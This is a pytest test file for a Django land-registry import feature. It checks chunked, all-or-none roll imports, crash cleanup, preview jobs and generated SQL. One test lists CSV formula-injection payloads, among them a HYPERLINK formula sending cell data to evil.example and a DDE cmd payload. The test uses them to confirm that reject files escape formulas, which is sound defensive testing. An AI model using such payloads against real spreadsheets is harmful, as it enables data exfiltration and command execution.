"""Large imports commit in short chunks, hidden until one short transaction publishes them: all rows or
none still holds, a crash leaves nothing visible, and the reject file opens formulas as text."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection

from sewerworks.core.imports import writer as writer_module
from sewerworks.core.imports.kinds import get_kind
from sewerworks.core.imports.rejects import reject_path
from sewerworks.core.imports.tasks import preview_upload_job
from sewerworks.core.imports.writer import cleanup_abandoned
from sewerworks.core.models import AuditEvent, ImportBatch, Job
from sewerworks.registry.imports.actions import do_import_roll, preview_roll
from sewerworks.registry.imports.roll_preview import preview_roll_file
from sewerworks.registry.models import AssessedValue, ImprovementArea, Owner, Ownership, Parcel
from sewerworks.registry.search import search
from sewerworks.registry.tests.test_imports import MARLBOROUGH, roll, row

ROWS = [row(f"108.12-3-{n}", owner_name=f"Owner {n}") for n in range(1, 8)]  # 7 parcels


@pytest.fixture(autouse=True)
def _scratch(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.VAR_DIR = tmp_path / "var"


@pytest.fixture
def areas(db):
    return ImprovementArea.objects.create(code="marlborough", name="Hamlet of Marlborough", boundary=MARLBOROUGH)


@pytest.fixture
def clerk(make_user):
    return make_user("clerk")


class Crash(BaseException):
    """What a killed worker looks like to the code: nothing after it runs, no cleanup either."""


@pytest.fixture
def chunks_of_two(monkeypatch):
    monkeypatch.setattr(writer_module, "CHUNK_ROWS", 2)
    monkeypatch.setattr(writer_module, "MIN_ROWS", 2)
    monkeypatch.setattr(writer_module, "MAX_ROWS", 2)
    monkeypatch.setattr(writer_module, "chunk_listeners", [])
    return writer_module.chunk_listeners


def _all_rows() -> int:
    return sum(m._base_manager.count() for m in (Parcel, Owner, AssessedValue, Ownership))


def test_chunks_stay_hidden_until_the_import_publishes_them(areas, clerk, chunks_of_two):
    seen = []
    chunks_of_two.append(
        lambda w, n: seen.append(
            (n, Parcel.objects.count(), Parcel._base_manager.count(), [h.tax_map_number for h in search("108.12-3")])
        )
    )
    result = do_import_roll(acting_user=clerk, data=roll(*ROWS), file_name="roll.csv")
    assert result.committed and result.new == 7
    assert len(seen) == 4 + 4 + 4 + 4  # 7 parcels, owners, values and ownerships, two to a chunk
    assert all(visible == 0 and hits == [] for _, visible, _, hits in seen)
    assert seen[3][2] == 7  # every parcel written before any was visible
    assert Parcel.objects.count() == 7 and Ownership.objects.count() == 7
    assert Parcel.history.count() == 7 and Ownership.history.count() == 7  # field-by-field history kept
    event = AuditEvent.objects.get(action="import_roll")
    assert event.run == result.run and event.rows == 7
    assert ImportBatch.objects.get().status == ImportBatch.Status.PUBLISHED
    assert 0 <= result.longest_write_s < 2  # measured, in ms rounded: publishing seven rows may take under 0.5 ms


def test_an_error_in_the_last_chunk_leaves_nothing_visible_and_nothing_behind(areas, clerk, chunks_of_two):
    def fail_last(w, n):
        if n == 16:
            raise RuntimeError("disk full")

    chunks_of_two.append(fail_last)
    with pytest.raises(RuntimeError, match="disk full"):
        do_import_roll(acting_user=clerk, data=roll(*ROWS), file_name="roll.csv")
    assert _all_rows() == 0 and Parcel.history.count() == 0 and not AuditEvent.objects.exists()
    assert ImportBatch.objects.get().status == ImportBatch.Status.DISCARDED


def test_a_crash_midway_shows_nothing_and_the_cleanup_removes_the_leftovers(areas, clerk, chunks_of_two):
    def crash(w, n):
        if n == 6:
            raise Crash

    chunks_of_two.append(crash)
    with pytest.raises(Crash):
        do_import_roll(acting_user=clerk, data=roll(*ROWS), file_name="roll.csv")
    assert _all_rows() > 0 and Parcel.objects.count() == 0 and Owner.objects.count() == 0
    assert search("108.12") == []
    assert cleanup_abandoned(older_than=timedelta(hours=1)) == []  # not yet given up for dead
    chunks_of_two.clear()
    assert len(cleanup_abandoned(older_than=timedelta(0))) == 1
    assert _all_rows() == 0 and Parcel.history.count() == 0 and Owner.history.count() == 0
    again = do_import_roll(acting_user=clerk, data=roll(*ROWS), file_name="roll.csv")  # nothing in the way
    assert again.committed and Parcel.objects.count() == 7


def test_an_import_all_or_none_with_one_bad_row_writes_nothing_at_all(areas, clerk):
    result = do_import_roll(acting_user=clerk, data=roll(*ROWS, row("bad")), file_name="roll.csv")
    assert not result.committed and _all_rows() == 0 and not ImportBatch.objects.exists()


FORMULAS = {
    "owner_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "owner_mailing_address": "@SUM(A1:A9)",
    "owner_city": "=cmd|' /C calc'!A0",
    "street_name": "+1+1",
}


def test_valid_rows_only_writes_a_reject_file_whose_formula_cells_open_as_text(areas, clerk):
    bad = row("108.12-9-1", roll_year="25", assessed_value="-5", **FORMULAS)
    result = do_import_roll(acting_user=clerk, data=roll(*ROWS, bad), file_name="roll.csv", valid_rows_only=True)
    assert result.committed and result.new == 7 and result.rejected == 1
    text = reject_path(result.run).read_bytes().decode("utf-8-sig")
    record = dict(zip(*list(csv.reader(io.StringIO(text))), strict=True))
    for column, formula in FORMULAS.items():
        assert record[column] == "'" + formula
    assert record["assessed_value"] == "-5"  # a plain number stays a number
    assert record["row"] == "9" and "roll_year" in record["error"]


def test_the_streamed_preview_counts_as_the_whole_file_preview_does(areas, clerk, tmp_path, monkeypatch):
    from sewerworks.registry.imports import roll_preview

    monkeypatch.setattr(roll_preview, "BATCH", 2)  # duplicates fall in different batches
    do_import_roll(acting_user=clerk, data=roll(ROWS[0], ROWS[1]), file_name="roll.csv")
    rows = [
        row("108.12-3-1", street_name="Main"),
        ROWS[1],
        *ROWS[2:5],
        row("108.12-3-4"),
        row("x"),
        ROWS[5],
        row("108.12-3-5"),
        row("108.12-3-4"),
    ]
    path = tmp_path / "roll.csv"
    path.write_bytes(roll(*rows))
    whole = preview_roll(acting_user=clerk, data=path.read_bytes(), file_name="roll.csv")
    streamed = preview_roll_file(path, context={}, as_of=whole_as_of(), progress=None)
    assert streamed.counts == whole.counts | {} and streamed.counts == {"new": 2, "updated": 1, "unchanged": 1}
    assert streamed.extra["rejected"] == whole.rejected == 6
    assert {e.row for e in streamed.errors} == {e.row for e in whole.errors}


def whole_as_of():
    from django.utils import timezone

    return timezone.localdate()


def test_a_large_upload_is_previewed_by_a_background_job(
    areas, client_as, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(get_kind("roll"), "preview_job_bytes", 100)
    client = client_as("clerk")
    client.post("/registry/import/", {"roll_file": SimpleUploadedFile("r.csv", roll(*ROWS), "text/csv")})
    with django_capture_on_commit_callbacks(execute=False):
        waiting = client.get("/registry/import/preview/")
    page = waiting.content.decode()
    assert "checked in the background" in page and "hx-trigger" in page
    job = Job.objects.get(kind="registry-import-preview")
    assert client.get("/registry/import/preview/") and Job.objects.filter(kind=job.kind).count() == 1  # once
    token = client.session["import_token"]
    preview_upload_job.call(job_id=job.pk, token=token, user_id=client.user.pk, as_of="2025-06-01")
    job.refresh_from_db()
    assert job.status == Job.Status.SUCCEEDED, job.message
    assert client.get("/registry/import/preview/", HTTP_HX_REQUEST="true").headers["HX-Redirect"]
    shown = client.get("/registry/import/preview/").content.decode()
    assert "Import all" in shown and not Parcel.objects.exists()


def test_the_statements_compiled_before_a_chunk_are_those_django_would_run(areas, clerk):
    from decimal import Decimal

    from sewerworks.core.imports.sqlbatch import compile_inserts, django_inserts, history_rows

    parcel = Parcel(tax_map_number="108.12-3-99", street_number="5", street_name="Main St", land_use_class="210")
    parcel.refresh_derived()
    value = AssessedValue(parcel_id=1, roll_year=2025, value=Decimal("185000.50"))
    for model, objs in ((Parcel, [parcel, parcel]), (AssessedValue, [value])):
        fast = compile_inserts(model, objs, returning=True)
        slow = django_inserts(model, objs, returning=True)
        assert [_row_major(p) for _, p in fast] == [_row_major(p) for _, p in slow]
        if connection.vendor != "postgresql":  # there Django writes UNNEST(arrays); ours is plain VALUES
            assert [" ".join(sql.split()) for sql, _ in fast] == [" ".join(sql.split()) for sql, _ in slow]
    parcel.pk = 7
    history_model, rows = history_rows(Parcel, [parcel], user=clerk, reason="Import x")
    fast_h, slow_h = (f(history_model, rows, returning=False) for f in (compile_inserts, django_inserts))
    assert [_row_major(p) for _, p in fast_h] == [_row_major(p) for _, p in slow_h]


def _row_major(params):
    """Django 5.2 on PostgreSQL passes a bulk insert as one array per column (INSERT … SELECT * FROM
    UNNEST(…)); the same values row by row, as a VALUES statement takes them."""
    if connection.vendor == "postgresql" and params and all(isinstance(p, list | tuple) for p in params):
        return [value for row in zip(*params, strict=True) for value in row]
    return list(params)
